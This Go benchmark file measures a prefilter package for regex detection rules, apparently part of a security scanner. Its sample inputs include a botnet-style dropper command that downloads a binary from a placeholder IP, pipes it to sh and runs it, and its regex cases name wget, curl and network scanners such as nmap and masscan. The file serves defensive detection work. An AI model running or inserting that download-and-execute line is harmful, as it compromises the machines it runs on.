package prefilter

import (
	"fmt"
	"regexp/syntax"
	"testing"
)

func BenchmarkAppendFold(b *testing.B) {
	for _, bm := range []struct{ name, text string }{
		{"ascii70", "cd /tmp; WGET http://192.0.2.7/bins/x86 -O- | sh; chmod 777 x86; ./x86"},
		{"one rune", "cd /tmp; WGET http://192.0.2.7/bins/x86 -O- | sh; chmod 777 ü86; ./x86"},
		{"cyrillic70", "привет мир это команда из букв не АСКИ"},
		{"han", "漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢字漢"},
	} {
		b.Run(bm.name, func(b *testing.B) {
			dst := make([]byte, 0, 1024)
			b.SetBytes(int64(len(bm.text)))
			b.ReportAllocs()
			for b.Loop() {
				dst = AppendFold(dst[:0], bm.text)
			}
		})
	}
}

func BenchmarkSearch(b *testing.B) {
	for _, n := range []int{25, 1000, 10_000} {
		b.Run(fmt.Sprintf("literals=%d", n), func(b *testing.B) {
			literals := ruleLiterals(n)
			a := build(patternsOf(literals))
			list := texts(literals)
			total := 0
			for _, text := range list {
				total += len(text)
			}
			var m Marks
			b.SetBytes(int64(total / len(list)))
			b.ReportAllocs()
			i, marked := 0, 0
			for b.Loop() {
				m.Reset()
				a.Search(list[i%len(list)], &m)
				marked += len(m.IDs())
				i++
			}
			b.ReportMetric(float64(marked)/float64(i), "ids/text")
		})
	}
}

func BenchmarkBuild(b *testing.B) {
	for _, bm := range []struct {
		name     string
		literals []string
	}{
		{"rules=1000", ruleLiterals(1000)},
		{"rules=10000", ruleLiterals(10_000)},
		{"random32=10000", randomLiterals(10_000, 32)},
	} {
		b.Run(bm.name, func(b *testing.B) {
			patterns := patternsOf(bm.literals)
			var a *Searcher
			b.ReportAllocs()
			for b.Loop() {
				a = build(patterns)
			}
			b.ReportMetric(float64(a.Bytes())/1e6, "MB")
		})
	}
}

func BenchmarkRequired(b *testing.B) {
	for _, pattern := range []string{
		`(?i)\b(?:wget|curl)\s+-q`,
		`(?:^|[;&|]\s*)(?:sudo\s+)?(?:/usr)?/?(?:s?bin/)?(?:nmap|masscan|zmap|rustscan|unicornscan|hping3)(?:\s|$)`,
		`[ab][cd][ef][gh][ij][kl][mn][op][qr][st]`,
	} {
		b.Run(pattern[:8], func(b *testing.B) {
			re, err := syntax.Parse(pattern, syntax.Perl)
			if err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			for b.Loop() {
				Required(re)
			}
		})
	}
}
